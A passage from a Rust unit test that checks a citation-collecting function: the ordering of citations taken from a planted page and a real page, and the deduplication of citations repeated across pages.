            Marker::source("src/y.rs", sha('a'), lines(4, 4))
        );
        let cited = citations([planted.as_str(), real.as_str()]);
        assert_eq!(cited.len(), 10_002);
        // The real page's citations are among the first four checked.
        assert_eq!(cited[1].path, "src/z.rs");
        assert_eq!(cited[3].path, "src/y.rs");
        // Each citation once, whichever page repeats it.
        let twice = citations([real.as_str(), real.as_str()]);
        assert_eq!(twice.len(), 2);
    }
}
